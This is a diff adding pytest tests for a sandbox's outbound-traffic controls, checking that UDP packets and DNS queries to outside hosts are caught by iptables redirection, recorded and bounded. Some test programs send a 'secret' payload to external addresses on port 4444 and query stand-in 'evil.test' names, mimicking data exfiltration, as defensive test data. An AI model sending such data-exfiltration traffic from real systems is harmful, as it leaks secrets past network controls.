@@ -175,6 +175,53 @@ def test_connections_to_addresses_that_a_firewall_rule_catches_are_recorded(insi
     inside.attempt(reach=Reach.ADDRESS, host="10.9.8.7", port=443, reason="address")
 
 
+SERVERS = {"8.8.8.8": "four.evil.test", "2001:4860:4860::8888": "six.evil.test"}
+CAUGHT = """
+ip route add local 0.0.0.0/0 dev lo; ip -6 route add local ::/0 dev lo
+iptables -w -t nat -A OUTPUT -p udp ! -d 127.0.0.0/8 -j REDIRECT --to-ports 3129
+ip6tables -w -t nat -A OUTPUT -p udp ! -d ::1/128 -j REDIRECT --to-ports 3129
+"""
+SENDING = """
+import socket, struct
+def ask(host, port, data):
+    sock = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET, socket.SOCK_DGRAM)
+    sock.settimeout(9)
+    sock.connect((host, port))
+    sock.send(data)
+    return sock
+def question(name):
+    labels = b''.join(bytes([len(one)]) + one.encode() for one in name.split('.'))
+    return struct.pack('>6H', 7, 256, 1, 0, 0, 0) + labels + struct.pack('>BHH', 0, 1, 1)
+"""
+
+
+def test_packets_to_addresses_that_a_firewall_rule_catches_are_recorded_and_bounded(inside):
+    program = (
+        f"{SENDING}\nfor _ in range(3000): ask('93.184.216.34', 4444, b'secret')\nask('2606:4700::1111', 4444, b'x')"
+    )
+    inside.run(f'/usr/bin/python3 -c "{program}"', before=CAUGHT)
+    one = inside.attempt(reach=Reach.ADDRESS, host="udp", port=None, reason="address", allowed=False)
+    assert "secret" not in one.model_dump_json()
+    assert len(inside.attempts()) < 20
+
+
+def test_a_question_to_another_name_server_is_recorded_by_its_name_and_answered_here(inside):
+    asked = [f"ask('{host}', 53, question('{name}')).recv(999)[-4:].hex()" for host, name in SERVERS.items()]
+    done = inside.run(f'/usr/bin/python3 -c "{SENDING}\nfor one in ({", ".join(asked)}): print(one)"', before=CAUGHT)
+    assert done.stdout.split() == ["7f000001"] * 2, done.stderr
+    for name in SERVERS.values():
+        inside.attempt(reach=Reach.NAME, host=name, reason="name-not-allowed", allowed=False)
+
+
+def test_a_packet_that_keeps_its_address_is_recorded_with_it(inside):
+    routes = "ip route add local 0.0.0.0/0 dev lo; ip -6 route add local ::/0 dev lo"
+    sent = "ask('93.184.216.34', 3129, b'x'); ask('2606:4700::1111', 53, b'x'); ask('8.8.8.8', 53, question('v4.evil.test')).recv(9)"
+    inside.run(f'/usr/bin/python3 -c "{SENDING}\n{sent}"', before=routes)
+    inside.attempt(reach=Reach.NAME, host="v4.evil.test")
+    inside.attempt(reach=Reach.ADDRESS, host="93.184.216.34", port=3129, reason="address")
+    inside.attempt(reach=Reach.ADDRESS, host="[2606:4700::1111]", port=53, reason="address")
+
+
 def test_there_is_no_other_way_out(inside):
     for url in ("http://93.184.216.34/", "http://169.254.169.254/", "http://[2606:4700::1111]/", "http://10.1.2.3/"):
         assert inside.run(f"{DIRECT} -g '{url}'").returncode in (7, 28)
